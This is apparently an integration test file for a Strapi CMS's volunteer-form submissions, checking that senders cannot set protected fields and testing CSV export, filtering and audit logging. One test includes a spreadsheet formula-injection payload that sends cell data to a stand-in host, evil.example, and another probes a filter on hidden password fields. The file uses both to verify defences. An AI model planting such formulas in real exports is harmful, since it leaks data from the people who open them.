import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { setTimeout as pause } from 'node:timers/promises';
import { readCsv } from '../../scripts/schools/csv.ts';
import { firstAdmin } from './admin.ts';
import { at, call, list } from './http.ts';
import { newPlace } from './place.ts';
import { staffMember } from './staff.ts';

const place = await newPlace();
const strapi = await place.start();
after(async () => {
  await strapi.stop();
  await place.remove();
});
const admin = await firstAdmin(strapi);
const coordinator = await staffMember(strapi.url, admin, 'Coordinator');

const VOLUNTEERS = 'api::volunteer-form.volunteer-form';
const volunteer = {
  firstName: 'Kavin',
  lastName: 'Sample',
  email: 'kavin@sample.example',
  mobileNumber: '+919876501234',
  student: '1',
  fieldOfStudy: '',
  institutionName: '',
  selfDescription: '',
};

async function send(data: object, type = 'volunteer-form'): Promise<string> {
  const reply = await call(`${strapi.url}/api/${type}s`, {
    method: 'POST',
    token: strapi.writeToken,
    body: { data },
  });
  assert.equal(reply.status, 201, reply.text);
  return String(at(reply.json, 'data', 'documentId'));
}

/** The file as a spreadsheet reads it: lines of cells, the header first. */
async function exportOf(query = '', uid = VOLUNTEERS): Promise<readonly (readonly string[])[]> {
  const reply = await call(`${strapi.url}/submissions/${uid}/export${query}`, {
    token: coordinator.token,
  });
  assert.equal(reply.status, 200, reply.text);
  return readCsv(reply.text).rows.map(({ cells }) => cells);
}

function entry(documentId: string): string {
  return `/content-manager/collection-types/${VOLUNTEERS}/${documentId}`;
}

test('[7.2] whoever sends a form cannot set its status, its notes or its date', async () => {
  const documentId = await send({ ...volunteer, progress: 'Done', notes: 'Let me in' });
  const { json } = await admin.call('GET', entry(documentId));
  assert.equal(at(json, 'data', 'progress'), 'New');
  assert.equal(at(json, 'data', 'notes'), null);
  for (const more of [
    { createdAt: '2001-01-01T00:00:00.000Z' },
    { createdBy: 1 },
    { documentId: 'chosen-by-the-sender' },
  ]) {
    const body = { data: { ...volunteer, ...more } };
    const token = strapi.writeToken;
    await call(`${strapi.url}/api/volunteer-forms`, { method: 'POST', token, body });
  }
  const path = `/content-manager/collection-types/${VOLUNTEERS}?pageSize=100`;
  for (const each of list((await admin.call('GET', path)).json, 'results')) {
    assert.ok(Math.abs(Date.now() - Date.parse(String(at(each, 'createdAt')))) < 60_000);
    assert.equal(at(each, 'createdBy'), null);
    assert.notEqual(at(each, 'documentId'), 'chosen-by-the-sender');
  }
});

test('entries from before there was a status are new ones', async () => {
  await send({ ...volunteer, firstName: 'Earlier' });
  await place.query("update volunteer_forms set progress = null where first_name = 'Earlier'");
  const second = await place.start({
    CMS_TOKEN: strapi.readToken,
    CMS_WRITE_TOKEN: strapi.writeToken,
  });
  await second.stop();
  const rows = await place.query(
    "select progress from volunteer_forms where first_name = 'Earlier'",
  );
  assert.deepEqual(
    rows.map(({ progress }) => progress),
    ['New'],
  );
});

test('the list shows the newest first, with status and date, and can be searched', async () => {
  const path = `/content-manager/content-types/${VOLUNTEERS}/configuration`;
  const view = at((await admin.call('GET', path)).json, 'data', 'contentType');
  assert.deepEqual(at(view, 'layouts', 'list'), [
    'createdAt',
    'progress',
    'firstName',
    'lastName',
    'email',
    'mobileNumber',
  ]);
  assert.equal(at(view, 'settings', 'defaultSortBy'), 'createdAt');
  assert.equal(at(view, 'settings', 'defaultSortOrder'), 'DESC');
  assert.equal(at(view, 'settings', 'searchable'), true);
  assert.equal(at(view, 'settings', 'filterable'), true);
  assert.equal(at(view, 'metadatas', 'createdAt', 'list', 'label'), 'Received');
  for (const [field, editable] of [
    ['progress', true],
    ['notes', true],
    ['firstName', false],
  ] as const) {
    assert.equal(at(view, 'metadatas', field, 'edit', 'editable'), editable, field);
  }
});

test('an export has every field, plain words, and Tamil names that a spreadsheet can read', async () => {
  await send({
    ...volunteer,
    firstName: 'கவின்',
    lastName: 'മഴവിൽ, "Kavi"',
    selfDescription: 'A\nB',
  });
  const [header, newest] = await exportOf('?timeZone=Asia/Kolkata');
  assert.deepEqual(header, [
    'Received (Asia/Calcutta)',
    ...['Status', 'Notes', 'First name', 'Last name', 'E-mail', 'Mobile number', 'Student?'],
    ...['Field of study', 'Institution', 'About themselves'],
  ]);
  assert.match(String(newest?.[0]), /^\d{4}-\d\d-\d\d \d\d:\d\d$/);
  assert.deepEqual(newest?.slice(1), [
    ...['New', '', 'கவின்', 'മഴവിൽ, "Kavi"', 'kavin@sample.example', "'+919876501234", 'Yes'],
    ...['', '', 'A\nB'],
  ]);
  const raw = await fetch(`${strapi.url}/submissions/${VOLUNTEERS}/export`, {
    headers: { Authorization: `Bearer ${coordinator.token}` },
  });
  const bytes = new Uint8Array(await raw.arrayBuffer());
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  assert.equal(raw.headers.get('content-type'), 'text/csv; charset=utf-8');
  assert.match(String(raw.headers.get('content-disposition')), /filename="volunteers\.csv"/);
  assert.equal(raw.headers.get('cache-control'), 'no-store');
});

test('an export can be narrowed to a status, a time and a search, as the list is', async () => {
  const documentId = await send({ ...volunteer, firstName: 'Narrowed' });
  await coordinator.call('PUT', entry(documentId), { progress: 'Done' });
  const names = async (query: string) => (await exportOf(query)).slice(1).map((row) => row[3]);
  assert.deepEqual(await names('?filters[$and][0][progress][$eq]=Done'), ['Narrowed']);
  assert.deepEqual(await names('?_q=narrow'), ['Narrowed']);
  const tomorrow = new Date(Date.now() + 86_400_000).toISOString();
  const yesterday = new Date(Date.now() - 86_400_000).toISOString();
  assert.deepEqual(await names(`?filters[createdAt][$gt]=${tomorrow}`), []);
  assert.ok((await names(`?filters[createdAt][$gt]=${yesterday}`)).length >= 3);
});

test('what would be a formula is text in the file, in every field', async () => {
  const evil = `=HYPERLINK("https://evil.example?x="&A1,"Click")`;
  const fields = ['firstName', 'lastName', 'fieldOfStudy', 'institutionName', 'selfDescription'];
  const all = Object.fromEntries(fields.map((field) => [field, evil]));
  await send({ ...volunteer, ...all, email: '@SUM(1+1)' });
  const [, newest] = await exportOf();
  for (const cell of newest ?? []) assert.doesNotMatch(cell, /^[=+\-@\t\r\n]/);
  assert.equal(newest?.filter((cell) => cell === `'${evil}`).length, fields.length);
});

test('a long list is exported whole, each entry once', async () => {
  const many = Array.from({ length: 450 }, (_, index) => index);
  const rows = many.map(
    (index) => `('long-${index}', 'Long${index}', 'l@example.org', '9876501234', '0', 'New')`,
  );
  await place.query(
    `insert into intern_forms (document_id, first_name, email, mobile_number, student, progress) values ${rows.join(', ')}`,
  );
  const exported = (await exportOf('', 'api::intern-form.intern-form')).slice(1);
  assert.equal(new Set(exported.map((row) => row[3])).size, 450);
});

test('exports of other types than the four are not there', async () => {
  for (const uid of ['api::project.project', 'admin::user', 'nothing']) {
    const reply = await admin.call('GET', `/submissions/${uid}/export`);
    assert.equal(reply.status, 404, uid);
  }
});

test('a filter on what nobody may see is refused, and reveals nothing', async () => {
  const reply = await coordinator.call(
    'GET',
    `/submissions/${VOLUNTEERS}/export?filters[createdBy][password][$startsWith]=a`,
  );
  const rows = reply.status === 200 ? readCsv(reply.text).rows.length - 1 : 0;
  const all = (await exportOf()).length - 1;
  assert.ok(reply.status === 400 || rows === all, `${reply.status} with ${rows} of ${all}`);
});

test('the log tells who exported how many, and nothing of whom', async () => {
  await exportOf('?_q=kavin');
  // What is printed arrives a moment after the reply.
  await pause(500);
  const log = strapi.output();
  assert.match(log, /Audit: staff member \d+ exported \d+ volunteers/);
  for (const word of ['Kavin', 'kavin', '98765', 'கவின்', 'evil']) {
    assert.ok(!log.includes(word), `${word} is in the log`);
  }
});

test('the four lists are found in the admin', async () => {
  const { json } = await coordinator.call('GET', '/content-manager/content-types');
  const names = list(json, 'data')
    .filter((type) => at(type, 'isDisplayed') === true)
    .map((type) => at(type, 'info', 'displayName'));
  for (const name of ['Message', 'Volunteer', 'Intern', 'Sponsor']) {
    assert.ok(names.includes(name), `${name} is not among ${names.join(', ')}`);
  }
});
